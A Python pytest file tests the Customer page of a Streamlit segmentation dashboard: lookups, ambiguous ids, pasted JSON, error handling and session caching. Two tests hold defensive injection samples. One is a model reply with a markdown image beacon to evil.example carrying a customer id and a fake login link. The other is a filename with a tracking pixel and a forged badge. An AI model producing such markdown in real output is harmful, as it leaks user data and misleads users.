"""The Customer page in AppTest: lookup in the loaded cohort, the form, pasted JSON, and a backend down."""

from __future__ import annotations

import json
from datetime import date

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from agent.explain import ModelExplainer
from agent.runtime import Runtime
from agent.telemetry import NullRecorder
from dashboard import customer_view, sources
from dashboard.recent import RecentAnswers
from dashboard.wording import plain
from tests.agent.scripted_model import ScriptedModel
from tests.conftest import seed_example
from tests.dashboard.apptest import go_to, load_sample, open_app, table_with, texts, unreadable_cohort_error
from tests.dashboard.servers import free_port, running_runtime


def _cards(at: AppTest) -> list[str]:
    """The HTML of each segment card on the page."""
    grids = [m for m in texts(at, "markdown") if 'class="segment-cards"' in m]
    return [card for grid in grids for card in grid.split('<div class="segment-card" ')[1:]]


def _metric(at: AppTest, label: str) -> str:
    return next(str(m.value) for m in at.metric if m.label == label)


def test_without_a_cohort_the_lookup_points_to_the_cohort_page() -> None:
    at = go_to(open_app(), "customer")

    assert at.title[0].value == "Customer"
    assert any("No cohort is loaded" in i for i in texts(at, "info"))
    assert any(i.startswith("Pick a customer above") for i in texts(at, "info"))


def test_looking_up_a_customer_of_the_cohort_shows_cards_metrics_products_and_the_explanation() -> None:
    at = go_to(load_sample(open_app()), "customer")
    cohort = sources.read(sources.sample().file)
    wanted = str(cohort.customers["customer_id"].iloc[3])

    at.text_input(key="lookup_id").set_value(wanted)
    at.button(key="lookup_button").click().run()

    assert not at.exception
    assert at.subheader[0].value.startswith(f"{wanted} · ")
    cards = _cards(at)
    assert len(cards) == 7
    assert any("Churn risk" in c and ("— active" in c or "— cooling" in c or "— at risk" in c) for c in cards)
    assert _metric(at, "Orders") != "0"
    assert any(m.startswith(f"#### Customer {wanted}") for m in texts(at, "markdown"))
    assert "Explanation by the agent's template explainer (no language model configured)." in texts(at, "caption")


def test_an_unknown_id_is_a_warning() -> None:
    at = go_to(load_sample(open_app()), "customer")

    at.text_input(key="lookup_id").set_value("NOPE-1")
    at.button(key="lookup_button").click().run()

    assert texts(at, "warning") == [f"No customer with id **NOPE-1** in {plain(sources.sample().file.name)}."]
    assert _cards(at) == []


def test_an_id_that_reads_as_two_customers_is_ambiguous_and_lists_them() -> None:
    orders = "customer_id,order_date,product_id,amount\nA\u00a01,2026-01-05,P,10\nA\u20071,2026-01-06,P,20\n"
    at = go_to(_orders_file(open_app(), orders.encode()), "customer")

    _look_up(at, "A 1")

    assert texts(at, "warning") == ["**A 1** is ambiguous in orders.csv: 2 customers' ids read as it once written the "
                                    "same way (A⟨U+00A0⟩1, A⟨U+2007⟩1). Pick one from the list, or paste its id "
                                    "exactly."]
    assert _cards(at) == []


def test_the_session_keeps_the_last_analyses_and_says_when_older_ones_were_dropped() -> None:
    at = go_to(load_sample(open_app()), "customer")
    at.session_state["customer_answers"] = RecentAnswers(limit=1)
    first, second = (str(i) for i in sources.read(sources.sample().file).customers["customer_id"].iloc[:2])

    at.text_input(key="lookup_id").set_value(first)
    at.button(key="lookup_button").click().run()
    assert not [c for c in texts(at, "caption") if c.startswith("This session keeps")]
    at.text_input(key="lookup_id").set_value(second)
    at.button(key="lookup_button").click().run()

    assert at.subheader[0].value.startswith(f"{second} · ")
    assert at.session_state["customer_answers"].keys()[0][-1] == json.dumps(
        at.session_state["customer_request"][0], sort_keys=True, default=str)  # the one shown is the one kept
    assert "This session keeps the last 1 customer analyses; 1 older one was dropped and would be asked for again." \
        in texts(at, "caption")


def test_pasted_seed_json_is_analysed_as_the_seed_would() -> None:
    request = seed_example("example-request")
    at = go_to(open_app(), "customer")
    at.session_state["as_of"] = date(2026, 2, 12)

    at.text_area(key="customer_json").set_value(json.dumps(request))
    at.button(key="analyse_json").click().run()

    assert not at.exception
    assert at.subheader[0].value == "C-1001 · Istanbul, Marmara"
    assert _metric(at, "Average basket") == "79.29 TRY"
    assert _metric(at, "Days since purchase") == "11"
    cards = _cards(at)
    assert "Aktif — active" in cards[0]
    assert "Aktif: lastPurchaseDaysAgo 11 ≤ 29" in cards[0]
    products = table_with(at, "product")
    assert products["product"].iloc[0] == "Dr. C. Tuna Tea Tree Face Wash (P-2001)"  # named from the catalog


def test_bad_json_is_a_clear_error() -> None:
    at = go_to(open_app(), "customer")

    at.text_area(key="customer_json").set_value('{"customerData": ')
    at.button(key="analyse_json").click().run()

    assert texts(at, "error") == ["**The JSON cannot be used:** not valid JSON: Expecting value at line 1, "
                                  "column 18"]


def test_invalid_customer_data_lists_the_agents_located_problems() -> None:
    at = go_to(open_app(), "customer")

    at.text_area(key="customer_json").set_value(json.dumps({"customer": {"customerId": "X", "age": 300}}))
    at.button(key="analyse_json").click().run()

    [error] = texts(at, "error")
    assert error.startswith("**Analysing the customer failed** — In-process agent (HTTP 400)")
    assert table_with(at, "where").to_dict("records") == [
        {"where": "customerData.customer.age", "problem": "Input should be less than or equal to 120",
         "value": "300"}]


def test_the_form_analyses_a_typed_customer() -> None:
    at = go_to(open_app(), "customer")

    at.form_submit_button[0].click().run()

    assert not at.exception
    assert at.subheader[0].value == "C-NEW-1 · Izmir, Ege"
    assert len(_cards(at)) == 7


def test_an_image_and_a_link_the_model_wrote_show_as_text(monkeypatch: pytest.MonkeyPatch) -> None:
    reply = "## C-1001\nAt risk ![x](https://evil.example/p.png?d=C-1001) [Renew](https://evil.example/login)"
    explainer = ModelExplainer(lambda: ScriptedModel([reply]), timeout_s=10)

    with running_runtime(Runtime(explainer, None, NullRecorder())) as url:
        monkeypatch.setenv("SEGMENT_RUNTIME_URL", url)
        at = go_to(open_app(), "customer")
        at.text_area(key="customer_json").set_value(json.dumps(seed_example("example-request")))
        at.button(key="analyse_json").click().run()

    assert not at.exception
    assert "Explanation by the agent's language model." in texts(at, "caption")
    assert "#### C-1001\nAt risk !\\[x\\](https:\u2060//evil.example/p.png?d=C-1001) \\[Renew\\](https:\u2060//evil" \
           ".example/login)" in texts(at, "markdown")


def test_backend_down_is_a_clear_error(monkeypatch: pytest.MonkeyPatch) -> None:
    port = free_port()
    monkeypatch.setenv("SEGMENT_RUNTIME_URL", f"http://127.0.0.1:{port}")
    at = go_to(open_app(), "customer")

    at.text_area(key="customer_json").set_value(json.dumps(seed_example("example-request")))
    at.button(key="analyse_json").click().run()

    assert not at.exception
    [error] = texts(at, "error")
    assert f"Cannot reach the agent runtime at http://127.0.0.1:{port}" in error


def test_a_customer_outside_the_reference_regions_is_valued_against_the_cohorts_median() -> None:
    at = go_to(load_sample(open_app()), "customer")
    cohort = sources.read(sources.sample().file)
    foreign = cohort.customers.loc[cohort.customers["region"].notna(), "customer_id"].iloc[0]

    at.text_input(key="lookup_id").set_value(str(foreign))
    at.button(key="lookup_button").click().run()

    value = next(card for card in _cards(at) if "VALUE" in card.upper().split("</DIV>")[0])
    assert "this cohort&#x27;s own median, as the region is not in the reference table" in value
    results = next(iter(at.session_state["cohort_results"].values())).frame
    row = results.loc[results["customerId"] == foreign].iloc[0]
    assert row["valueSegment"] in value
    assert row["valueSegmentReason"].replace("'", "&#x27;") in value


def _upload(at: AppTest, key: str, name: str, content: bytes) -> AppTest:
    at.file_uploader(key=key).set_value((name, content, "text/csv")).run()
    assert not at.exception
    return at


ORDERS = (b"customer_id,order_date,product_id,amount\nC1,2026-01-05,P1,100\nC1,2026-01-20,P1,100\n"
          b"C2,2026-01-06,P2,10\nC3,2026-01-07,P3,20\nC4,2026-01-08,P3,30\n")


def test_a_lookup_as_of_a_day_before_the_cohorts_purchases_is_an_error_not_a_crash() -> None:
    at = open_app()
    at.session_state["as_of"] = date(2020, 1, 1)
    _upload(at, "cohort_upload", "orders.csv", ORDERS)
    go_to(at, "customer")

    at.text_input(key="lookup_id").set_value("C1")
    at.button(key="lookup_button").click().run()

    assert not at.exception
    [error] = texts(at, "error")
    assert error.startswith("**orders.csv cannot be segmented as of 2020-01-01:** is before the purchases of 4 "
                            "customers in the cohort")
    assert _cards(at) == []


def test_the_lookup_uses_the_cohorts_medians_of_the_current_attributes_file() -> None:
    people = b"customer_id,city,region\n" + b"".join(f"C{i},Atlantis City,Atlantis\n".encode() for i in range(1, 5))
    at = open_app()
    at.session_state["as_of"] = date(2026, 2, 12)
    _upload(at, "cohort_upload", "orders.csv", ORDERS)
    go_to(at, "customer")
    at.text_input(key="lookup_id").set_value("C1")
    at.button(key="lookup_button").click().run()  # medians of the cohort without regions: none
    go_to(at, "cohort")
    _upload(at, "attributes_upload", "people.csv", people)
    go_to(at, "customer")

    at.text_input(key="lookup_id").set_value("C1")
    at.button(key="lookup_button").click().run()

    value = next(card for card in _cards(at) if "VALUE" in card.upper().split("</DIV>")[0])
    assert "median basket 25 of Atlantis, from this cohort&#x27;s own median" in value


def _orders_file(at: AppTest, content: bytes) -> AppTest:
    at.session_state["as_of"] = date(2026, 2, 12)
    at.file_uploader(key="cohort_upload").set_value(("orders.csv", content, "text/csv")).run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def _look_up(at: AppTest, customer_id: str) -> AppTest:
    at.text_input(key="lookup_id").set_value(customer_id)
    at.button(key="lookup_button").click().run()
    assert not at.exception, [e.value for e in at.exception]
    return at


SPENT_ORDERS = "customer_id,order_date,product_id,amount\nA-1,2026-01-05,P,{spent}\nB-1,2026-01-06,P,10\n"


def test_a_customer_goes_when_another_lookup_fails_or_the_cohort_changes_or_goes() -> None:
    at = go_to(_orders_file(open_app(), SPENT_ORDERS.format(spent=200).encode()), "customer")

    _look_up(at, "A-1")
    assert _metric(at, "Total spent") == "200.00 TRY"
    _look_up(at, "A-2")
    assert texts(at, "warning") == ["No customer with id **A-2** in orders.csv."]
    assert _cards(at) == []  # not A-1's cards under the answer about A-2

    _look_up(at, "A-1")
    # The same file name with new content: the customer looked up in the old one goes.
    go_to(_orders_file(go_to(at, "cohort"), SPENT_ORDERS.format(spent=40).encode()), "customer")
    assert _cards(at) == []
    _look_up(at, "A-1")
    assert _metric(at, "Total spent") == "40.00 TRY"

    go_to(at, "cohort").button(key="unload_cohort").click().run()
    go_to(at, "customer")
    assert any("No cohort is loaded" in i for i in texts(at, "info"))
    assert _cards(at) == []


def test_failed_lookups_normalise_the_cohorts_ids_once_per_read_of_the_cohort(monkeypatch: pytest.MonkeyPatch) -> None:
    normalised: list[list[str]] = []
    normalise = customer_view.normalised_ids

    def counted_normalised_ids(ids: pd.Series) -> pd.Series:
        normalised.append(ids.tolist())
        return normalise(ids)

    monkeypatch.setattr(customer_view, "normalised_ids", counted_normalised_ids)
    at = go_to(_orders_file(open_app(), b"customer_id,order_date,product_id,amount\nKOD\xc2\xa07,2026-01-05,P,10\n"
                                        b"B-1,2026-01-06,P,20\n"), "customer")

    _look_up(at, "B-1")
    assert normalised == []  # an id written as typed: nothing to normalise
    _look_up(at, "A-2")
    _look_up(at, "KOD 7")
    assert at.subheader[0].value.startswith("KOD\u00a07 · ")
    assert normalised == [["KOD\u00a07", "B-1"]]

    go_to(_orders_file(go_to(at, "cohort"), SPENT_ORDERS.format(spent=40).encode()), "customer")
    _look_up(at, "A-2")
    assert normalised == [["KOD\u00a07", "B-1"], ["A-1", "B-1"]]  # another cohort: its own ids


def test_orders_without_products_say_so_instead_of_no_purchases() -> None:
    orders = (b"customer_id,order_id,order_date,amount\nA-1,O1,2026-01-05,100\nA-1,O2,2026-01-20,70.40\n"
              b"B-1,O3,2026-01-06,10\n")
    at = _orders_file(open_app(), orders)  # the Win-back tab is drawn with the page
    assert any(i.startswith("The file has no product detail (orders without products)") for i in texts(at, "info"))

    _look_up(go_to(at, "customer"), "A-1")

    assert _metric(at, "Orders") == "2"
    captions = texts(at, "caption")
    assert "No product detail: the file's purchases carry no product ids (orders without products)." in captions
    assert "Cannot tell without product detail." in captions
    assert "No purchases yet." not in captions


def test_a_long_cohort_says_the_pick_list_is_cut_and_any_id_can_be_typed() -> None:
    rows = "".join(f"C{i:05d},2026-01-05,P,10\n" for i in range(1200))
    at = go_to(_orders_file(open_app(), f"customer_id,order_date,product_id,amount\n{rows}".encode()), "customer")

    assert "1,200 customers in **orders.csv**; the list holds the first 1,000, type any id." in texts(at, "caption")
    assert len(at.selectbox(key="lookup_pick").options) == 1000
    _look_up(at, "C01100")
    assert at.subheader[0].value.startswith("C01100 · ")


def test_the_file_name_in_the_from_badge_is_text_not_markdown() -> None:
    sample = sources.sample()
    name = "x] ![pixel](https://ev.il/p.png) :red-badge[HACKED.csv"
    at = open_app()
    at.session_state["as_of"] = sample.as_of
    at = go_to(_upload(at, "cohort_upload", name, sample.file.content), "customer")
    wanted = str(sources.read(sample.file).customers["customer_id"].iloc[0])

    at.text_input(key="lookup_id").set_value(wanted)
    at.button(key="lookup_button").click().run()

    badges = [m for m in texts(at, "markdown") if m.startswith(":gray-badge[")]
    assert badges == [f":gray-badge[from {plain(name)}] :blue-badge[as of {sample.as_of}]"]
    assert plain(name) == "x\\] !\\[pixel\\](https:\u2060//ev.il/p.png) :red-badge\\[HACKED.csv"


def test_the_last_changed_of_the_typed_id_and_the_pick_is_looked_up() -> None:
    at = go_to(load_sample(open_app()), "customer")
    first, second, third = (str(i) for i in sources.read(sources.sample().file).customers["customer_id"].iloc[3:6])

    at.text_input(key="lookup_id").input(first)
    at.button(key="lookup_button").click().run()
    assert at.subheader[0].value.startswith(f"{first} · ")

    at.selectbox(key="lookup_pick").set_value(second)
    at.button(key="lookup_button").click().run()
    assert at.subheader[0].value.startswith(f"{second} · ")
    assert at.text_input(key="lookup_id").value == ""

    at.text_input(key="lookup_id").input(third)
    at.button(key="lookup_button").click().run()
    assert at.subheader[0].value.startswith(f"{third} · ")
    assert at.selectbox(key="lookup_pick").value is None


def test_unparseable_json_takes_the_previous_customer_off_the_page() -> None:
    at = go_to(open_app(), "customer")
    at.session_state["as_of"] = date(2026, 2, 12)
    at.text_area(key="customer_json").set_value(json.dumps(seed_example("example-request")))
    at.button(key="analyse_json").click().run()
    assert at.subheader[0].value == "C-1001 · Istanbul, Marmara"

    at.text_area(key="customer_json").set_value('{"customerData": ')
    at.button(key="analyse_json").click().run()

    assert texts(at, "error")[0].startswith("**The JSON cannot be used:** not valid JSON")
    assert not at.subheader
    assert any(i.startswith("Pick a customer above") for i in texts(at, "info"))


def test_an_unreadable_cohort_names_its_problem_without_the_apis_options() -> None:
    unreadable_cohort_error("customer")  # it checks the error's words
